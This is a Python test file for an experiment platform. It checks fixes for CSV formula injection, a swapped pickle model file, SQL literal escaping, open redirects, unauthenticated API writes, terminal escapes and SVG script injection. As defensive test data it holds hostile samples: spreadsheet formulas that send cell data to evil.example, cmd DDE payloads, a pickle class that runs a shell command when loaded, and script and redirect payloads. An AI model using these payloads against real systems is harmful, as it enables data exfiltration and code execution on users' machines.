"""Untrusted input, third review: spreadsheet formulas in exported CSVs, a model file swapped between its hash check and
its load, backslashes in Spark SQL literals, redirects after login, API writes without a token, and form values that
gave a 500 or a server path instead of a clear 400.

Each test reproduces the finding on real code (a real registry in tmp_path, the real CLI, a real Flask app) and shows
it fixed. Expected cells follow OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading '.
"""
from __future__ import annotations

import io
import os
import re
from pathlib import Path

import joblib
import pandas as pd
import pytest
from click.testing import CliRunner

from common.spreadsheet import inert_cell, inert_frame
from experiments.catalog import Metric, Treatment, save_metric, save_treatment
from experiments.cohorts import write_cohort
from experiments.db import registry
from experiments.definitions import Arm, Experiment, create_experiment
from experiments.lifecycle import start_experiment
from experiments.model_files import dump_model_file, load_model_file
from experiments.models import ModelRecord, save_model_record
from experiments.targeting import assign_users
from experiments.users import add_user
from warehouse.dialect import Dialect
from webui import create_app
from winback.cli import cli

PASSWORD = "correct horse battery"
HOSTILE = ['=HYPERLINK("http://evil.example?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]
NUMBERS = ["-0.12", "+44", "-1e-05", "42"]


def invoke(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args])


# 1. CSV (formula) injection -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1+1", "\r=1+1", "=1+1", "@x"])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*NUMBERS, "abc", "", "u1-2", " =x", None, -0.12, 3])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert inert_cell(value) == value


def test_a_frame_keeps_its_number_columns_and_missing_cells():
    frame = pd.DataFrame({"user_id": ["=1+1", "u2"], "effect": [-0.12, float("nan")], "note": [None, "-x"]})
    safe = inert_frame(frame)
    assert safe["user_id"].tolist() == ["'=1+1", "u2"]
    assert safe["effect"].dtype == float and safe["effect"].iloc[0] == -0.12
    assert safe["note"].isna().iloc[0] and safe["note"].iloc[1] == "'-x"  # a missing cell stays missing (empty)
    assert frame["user_id"].tolist() == ["=1+1", "u2"]  # the caller's frame is not changed


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A registry whose cohort holds hostile and number-like user ids, a running experiment named like a formula
    with those users assigned, and one user per role."""
    db = tmp_path / "registry.db"
    save_treatment(Treatment("coupon", "coupon", "coupon", 2.0), db)
    save_metric(Metric("retained", "binary", True, "bought again"), db)
    ids = HOSTILE + NUMBERS + [f"u{i}" for i in range(40)]
    write_cohort(pd.DataFrame({"user_id": ids, "risk": 0.5, "stage": "active", "tier": "regular",
                               "reason": "=price"}), "c1", db)
    arms = (Arm("control", None, 0.5, True), Arm("coupon", "coupon", 0.5))
    create_experiment(Experiment(key="e1", name="=1+2", primary_metric="retained", arms=arms, owner="@owner",
                                 hypothesis="-lift", target_cohort="c1"), db, actor="t")
    start_experiment("e1", db, actor="t")
    assign_users("e1", db=db)
    with registry(db) as database:
        for name, role in (("gina", "growth"), ("finn", "finance"), ("stella", "strategy"), ("ada", "admin")):
            add_user(database, name, PASSWORD, role, actor="t")
    return db


def _form_token(client, url: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).text).group(1)


def _login(db: Path, name: str, next_path: str | None = None, **config):
    """(client, login response) of a sign-in through the real form, optionally with ?next=."""
    client = create_app({"DB": str(db), "SECRET_KEY": "test", "TESTING": True, **config}).test_client()
    response = client.post("/login", query_string={"next": next_path} if next_path else None,
                           data={"username": name, "password": PASSWORD, "csrf_token": _form_token(client, "/login")})
    return client, response


def _client(db: Path, name: str = "ada", **config):
    """A signed-in client and its session's CSRF token (signing in starts a new session, hence a new token)."""
    client, response = _login(db, name, **config)
    assert response.status_code == 302
    return client, _form_token(client, "/allocate")


def _cells(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def test_web_csv_downloads_hold_no_live_formula(hostile_db):
    client, _ = _client(hostile_db)
    sent = _cells(client.get("/experiments/e1/assignments.csv").text)
    assert sorted(sent["user_id"][sent["user_id"].str.startswith("'")]) == sorted("'" + h for h in HOSTILE)
    assert set(NUMBERS) <= set(sent["user_id"])  # number-like ids are written as they are
    listing = _cells(client.get("/experiments.csv").text)
    assert listing.loc[0, "name"] == "'=1+2" and listing.loc[0, "owner"] == "'@owner"
    overview = _cells(client.get("/overview.csv").text)
    assert "'=price" in set(overview["value"]) and "=price" not in set(overview["value"])


def test_cli_send_list_and_plan_hold_no_live_formula(hostile_db, tmp_path):
    out = tmp_path / "send.csv"
    result = invoke("experiment", "assignments", "e1", "--out", out, "--db", hostile_db)
    assert result.exit_code == 0, result.output
    ids = set(_cells(out.read_text())["user_id"])
    assert {"'" + h for h in HOSTILE} <= ids and not set(HOSTILE) & ids and set(NUMBERS) <= ids
    scores, plan = tmp_path / "scores.csv", tmp_path / "plan.csv"
    pd.DataFrame({"user_id": HOSTILE + NUMBERS, "coupon": 0.1}).to_csv(scores, index=False)
    costs = tmp_path / "costs.json"
    costs.write_text('{"coupon": 1}')
    result = invoke("allocate", "--scores", scores, "--budget", "100", "--costs", costs, "--out", plan)
    assert result.exit_code == 0, result.output
    planned = _cells(plan.read_text())
    assert sorted(planned["user_id"]) == sorted(["'" + h for h in HOSTILE] + NUMBERS)
    assert planned["expected_uplift"].str.match(r"^[0-9.]+$").all()  # numbers stay numbers


# 2. A model file swapped between the hash check and the load -------------------------------------------------


class Planted:
    """A pickle that runs a shell command when it is loaded."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def test_a_model_file_swapped_after_its_hash_was_checked_is_never_unpickled(tmp_path, monkeypatch):
    """The race: the attacker swaps the file in the moment between the SHA-256 check and joblib's read. joblib.load is
    wrapped (a library, not project code) to do the swap at exactly that moment; what it is handed is then loaded."""
    path, digest = dump_model_file({"harmless": True}, "uplift", "m1", tmp_path / "models")
    record = ModelRecord("m1", "uplift", "s", ["x"], "f", path=str(path), sha256=digest)
    save_model_record(record, tmp_path / "registry.db")
    marker, real_load, real_dump = tmp_path / "pwned", joblib.load, joblib.dump

    def swap_then_load(source, *args, **kwargs):
        real_dump(Planted(marker), path)
        return real_load(source, *args, **kwargs)

    monkeypatch.setattr(joblib, "load", swap_then_load)
    assert load_model_file(record, tmp_path / "models") == {"harmless": True}
    assert not marker.exists()


# 3. Spark SQL literals (Spark itself runs them in tests/warehouse/test_spark_literals.py) ---------------------


@pytest.mark.parametrize("text, spark, duckdb", [
    ("it's", "'it''s'", "'it''s'"),
    ("x\\' OR 1=1 --", "'x\\\\'' OR 1=1 --'", "'x\\'' OR 1=1 --'"),
    ("back\\slash", "'back\\\\slash'", "'back\\slash'"),
])
def test_text_parameters_stay_one_literal_in_each_dialect(text, spark, duckdb):
    assert Dialect("spark").literal(text) == spark
    assert Dialect("duckdb").literal(text) == duckdb



# 4. The web: redirects, API writes, form values -------------------------------------------------------------


@pytest.mark.parametrize("target", ["/\\evil.example", "/\\/evil.example", "/\t/evil.example", "/\n/evil.example",
                                    "//evil.example", "https://evil.example", "https:evil.example"])
def test_login_never_redirects_off_site(hostile_db, target):
    response = _login(hostile_db, "gina", target)[1]
    assert response.status_code == 302 and response.location == "/experiments"


def test_login_still_follows_a_local_path(hostile_db):
    assert _login(hostile_db, "gina", "/experiments/e1/results?method=ttest")[1].location == \
        "/experiments/e1/results?method=ttest"


@pytest.mark.parametrize("url", ["/api/v1/experiments", "/api/v1/experiments/e1/stop", "/api/v1/experiments/e1/refresh",
                                 "/api/v1/experiments/e1/decide", "/api/v1/allocations"])
def test_an_api_write_without_a_token_is_401_naming_the_token(hostile_db, url):
    app = create_app({"DB": str(hostile_db), "SECRET_KEY": "test", "TESTING": True})
    response = app.test_client().post(url, data={"winner": "coupon", "rationale": "r"})
    assert response.status_code == 401 and response.json["ok"] is False
    assert response.json["message"] == "changes through the API need an API token (Authorization: Bearer ...)"
    with registry(hostile_db) as database:  # nothing changed
        assert database.execute("SELECT status FROM experiments WHERE key = 'e1'").fetchone()[0] == "running"


@pytest.mark.parametrize("seed", ["1e400", "nan", "-1", "1.5", "１"])
def test_a_seed_that_is_not_a_whole_number_is_a_400_not_a_500(hostile_db, tmp_path, seed):
    client, token = _client(hostile_db, "finn")
    scores = io.BytesIO(b"user_id,coupon\nu1,0.1\n")
    response = client.post("/allocate", content_type="multipart/form-data", data={
        "csrf_token": token, "budget": "10", "key": "p1", "seed": seed, "scores": (scores, "scores.csv")})
    assert response.status_code == 400 and "Traceback" not in response.text
    assert f"the seed must be a whole number from 0 to 10^18, got &#39;{seed}&#39;" in response.text


def test_an_unreadable_upload_is_named_as_uploaded_not_by_its_server_path(hostile_db):
    client, token = _client(hostile_db, "finn")
    response = client.post("/allocate", content_type="multipart/form-data", data={
        "csrf_token": token, "budget": "10", "key": "p1", "scores": (io.BytesIO(b"PAR1 not parquet"), "mine.parquet")})
    assert response.status_code == 400
    message = re.search(r'class="flash[^"]*">([^<]*)', response.text).group(1)
    assert message.startswith("mine.parquet: cannot be read as Parquet")  # the import rules' reader, by the upload's name
    assert "winback-upload-" not in response.text and "/tmp" not in response.text


def test_an_upload_over_the_size_limit_is_a_413_page(hostile_db):
    client, token = _client(hostile_db, "finn", MAX_CONTENT_LENGTH=10_000)
    response = client.post("/allocate", content_type="multipart/form-data", data={
        "csrf_token": token, "budget": "10", "scores": (io.BytesIO(b"x" * 20_000), "big.csv")})
    assert response.status_code == 413 and "Traceback" not in response.text


def test_pages_cannot_be_framed_and_downloads_cannot_be_sniffed_into_html(hostile_db):
    client, _ = _client(hostile_db)
    for url in ("/login", "/experiments/e1/results", "/experiments/e1/assignments.csv", "/api/v1/experiments"):
        headers = client.get(url).headers
        assert headers["X-Frame-Options"] == "DENY" and headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["Referrer-Policy"] == "same-origin"


# 5. Terminal escapes in free text ------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["name", "hypothesis", "owner"])
def test_free_text_with_a_terminal_escape_is_refused_and_nothing_is_written(hostile_db, field):
    """`winback experiment show/audit` print these fields in a terminal, where ESC [ 2 J clears the screen."""
    before = invoke("experiment", "list", "--db", hostile_db).output
    result = invoke("experiment", "create", "e2", f"--{field}", "ok\x1b[2Jhidden", "--name" if field != "name" else
                    "--owner", "x", "--primary-metric", "retained", "--arm", "control:-:0.5", "--arm",
                    "coupon:coupon:0.5", "--db", hostile_db)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"Error: experiment 'e2', {field}: holds the control character '\\x1b' at position 3" in result.output
    assert invoke("experiment", "list", "--db", hostile_db).output == before


def test_a_rationale_with_a_terminal_escape_is_refused_but_line_breaks_are_kept(hostile_db):
    from experiments.errors import ExperimentError
    from experiments.lifecycle import record_decision, stop_experiment

    stop_experiment("e1", hostile_db, actor="t")
    with pytest.raises(ExperimentError, match=r"the rationale: holds the control character '\\x9b' at position 5"):
        record_decision("e1", "coupon", "best\x9b31m", "ada", hostile_db, override="go")
    decision = record_decision("e1", "coupon", "best\r\nby far\tclearly", "ada", hostile_db, override="go")
    assert decision.rationale == "best\r\nby far\tclearly"


def test_chart_labels_titles_legends_and_hover_text_stay_text():
    from webui.charts import decile_svg, forest_svg, line_svg

    evil = '</title><script>alert(1)</script><title x="'
    svgs = [forest_svg([{"label": evil, "value": 0.1, "low": 0.0, "high": 0.2, "note": evil},
                        {"label": evil, "value": float("nan"), "note": evil}], title=evil),
            forest_svg([{"label": evil, "value": float("nan"), "note": evil}], title=evil),
            line_svg([{"name": evil, "x": [evil, "b"], "y": [0.1, 0.2]}], title=evil, x_label=evil),
            decile_svg([{"decile": evil, "observed": 0.1, "ci_low": 0.0, "ci_high": 0.2}], title=evil)]
    for svg in svgs:
        assert "<script>" not in svg and "&lt;script&gt;" in svg


def test_a_link_planted_where_a_model_will_be_saved_is_replaced_not_written_through(tmp_path):
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    (tmp_path / "models").mkdir()
    os.symlink(target, tmp_path / "models" / "uplift-m1.joblib")
    path, _ = dump_model_file({"harmless": True}, "uplift", "m1", tmp_path / "models")
    assert target.read_text() == "keep me" and not path.is_symlink()


ROLE_OF = {"gina": "growth", "finn": "finance", "stella": "strategy"}
# Every route that changes something, page and API twin, and the action (webui/auth.py PERMISSIONS) it needs.
MUTATIONS = [("launch", "/launch", "/api/v1/experiments", {"action": "create", "key": "new"}),
             ("launch", "/experiments/e1/stop", "/api/v1/experiments/e1/stop", {"confirm": "yes"}),
             ("launch", "/experiments/e1/assign", None, {"confirm": "yes"}),
             ("decide", "/experiments/e1/decide", "/api/v1/experiments/e1/decide", {"winner": "coupon", "rationale": "r"}),
             ("allocate", "/allocate", "/api/v1/allocations", {"budget": "1"})]
ALLOWED = {"launch": {"growth"}, "decide": {"strategy"}, "allocate": {"finance"}}


def _audit_rows(db: Path) -> int:
    with registry(db) as database:
        return database.execute("SELECT COUNT(*) FROM audit_log").fetchone()[0]


@pytest.mark.parametrize("name, action, page, api, data", [
    (name, *route) for route in MUTATIONS for name in sorted(ROLE_OF) if ROLE_OF[name] not in ALLOWED[route[0]]])
def test_each_role_against_each_route_that_changes_something(hostile_db, name, action, page, api, data):
    """A role without the action gets 403 on the page and on the API twin (with its own token) and changes nothing
    (the roles allowed each action are shown acting by tests/webui/test_access.py and test_actions.py)."""
    from experiments.users import create_token

    client, token = _client(hostile_db, name)
    before = _audit_rows(hostile_db)
    assert client.post(page, data={**data, "csrf_token": token}).status_code == 403
    if api:
        with registry(hostile_db) as database:
            secret = create_token(database, name, "t").secret
        before = _audit_rows(hostile_db)
        response = client.application.test_client().post(api, data=data, headers={"Authorization": f"Bearer {secret}"})
        assert response.status_code == 403 and response.json["message"].startswith(f"your role ({ROLE_OF[name]}) may not")
    assert _audit_rows(hostile_db) == before
